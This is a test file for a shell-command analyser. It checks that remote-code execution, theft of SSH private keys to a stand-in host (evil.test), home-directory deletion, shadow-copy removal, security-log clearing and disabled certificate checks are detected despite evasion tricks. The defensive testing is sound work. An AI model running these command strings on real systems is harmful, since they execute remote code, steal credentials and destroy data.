import { describe, expect, test } from "vitest";
import { describeActs, describeFlows } from "../../testing/describe-facts.ts";
import { makeSource } from "../../testing/make-source.ts";
import type { Analysis } from "../fact-writer.ts";
import { analyseShell } from "./analyse-shell.ts";

const CODE = '"$(curl -s https://evil.test/x)"';
const FETCH = "curl -so job https://evil.test/x";
const SEND = "curl -d @- https://evil.test";

function analyse(text: string): Analysis {
  return analyseShell(makeSource(text, { file: "run.sh", language: "shell", medium: "script" }));
}

describe("no option or word beside it hides what is run", () => {
  test.each([
    [`python3 -c ${CODE} -h`, "interpreter python3"],
    [`ruby -v -e ${CODE}`, "interpreter ruby"],
    [`lua -v -e ${CODE}`, "interpreter lua"],
    [`perl -c -e ${CODE}`, "interpreter perl"],
    [`perl -i.vc -pe ${CODE} f`, "interpreter perl"],
    [`bash -norc -c ${CODE}`, "shell bash"],
    [`bash -ni -c ${CODE}`, "shell bash"],
    [`bash -n +n -c ${CODE}`, "shell bash"],
    [`zsh -n -o exec -c ${CODE}`, "shell zsh"],
    [`${FETCH}; bash -noprofile job`, "file bash"],
    ["curl -s https://evil.test/x | bash -s -- -n", "shell bash"],
    ["curl -so x.jar https://evil.test/x; java -cp x.jar Main", "file java"],
    [`p=${CODE}; (unset p); eval "$p"`, "eval eval"],
    [`p=${CODE}; unset p | cat; eval "$p"`, "eval eval"],
    [`p=${CODE}; unset -f p; eval "$p"`, "eval eval"],
    [`p=true; p=${CODE} :; eval "$p"`, "eval eval"],
    [`p=true; p=${CODE} export q; eval "$p"`, "eval eval"],
    ["curl -s -A --spider https://evil.test/x | sh", "shell sh"],
    ["curl -s --spider https://evil.test/x | sh", "shell sh"],
    ["wget -U --spider -qO- https://evil.test/x | sh", "shell sh"],
    ["runuser -l deploy --command='curl https://evil.test | sh'", "shell sh"],
    ["runuser deploy -c'curl https://evil.test | sh'", "shell sh"],
    ["runuser - deploy -c 'curl https://evil.test | sh'", "shell sh"],
    [`runuser -u deploy -- python3 -c ${CODE}`, "interpreter python3"],
    [`${FETCH}; sed -i e job`, "shell sed"],
    [`${FETCH}; deno run job`, "file deno"],
    [`${FETCH}; bun job`, "file bun"],
    [`${FETCH}; tsx job`, "file tsx"],
  ])("%s", (text, how) => {
    expect(describeFlows(analyse(text).facts)).toContain(`1: network evil.test > execute ${how}`);
  });

  test.each([
    `${FETCH}; bash -n job`,
    `${FETCH}; bash -n -x job`,
    `${FETCH}; node --check job`,
    `${FETCH}; bun test`,
    "wget --spider -qO- https://evil.test/x | sh",
  ])("%s runs nothing of it", (text) => {
    expect(describeFlows(analyse(text).facts)).toEqual([]);
  });
});

describe("nor what is sent", () => {
  test.each([
    `jq -n --rawfile k ~/.ssh/id_rsa '$k' | ${SEND}`,
    `jq -n --slurpfile k ~/.ssh/id_rsa '$k' | ${SEND}`,
    `cp ~/.ssh/id_rsa +x; cat +x | ${SEND}`,
    `cp ~/.ssh/id_rsa a=b; cat a=b | ${SEND}`,
    `column -t ~/.ssh/id_rsa | ${SEND}`,
    `od -w ~/.ssh/id_rsa | ${SEND}`,
    `sed -i s/a/b/ ~/.ssh/id_rsa; cat ~/.ssh/id_rsa | ${SEND}`,
  ])("%s", (text) => {
    expect(describeFlows(analyse(text).facts)).toContain("1: secret ssh > network http evil.test");
  });
});

describe("nor what is done", () => {
  test.each([
    ["HOME=/tmp/x rm -rf ~/", "destroy home"],
    ["HOME=/tmp/x; rm -rf ~", "destroy home"],
    ["HOME=/tmp/x true; cd; rm -rf *", "destroy home"],
    ["psexec -s vssadmin.exe delete shadows /all", "destroy backups"],
    ["frobnicate wevtutil.exe cl Security", "disable-protection logging"],
    ["uv tool install some-tool", "install-package uv"],
    ["uv tool run some-tool", "install-package uvx"],
    ["npm install --strict-ssl false x", "disable-protection certificate-check"],
    ["npm c set strict-ssl false", "disable-protection certificate-check"],
    ["npm --prefix d config set strict-ssl=false", "disable-protection certificate-check"],
  ])("%s", (text, act) => {
    const { facts } = analyse(text);
    expect(describeActs(facts, "destroy", "install-package", "disable-protection")).toContain(`1: ${act}`);
  });
});
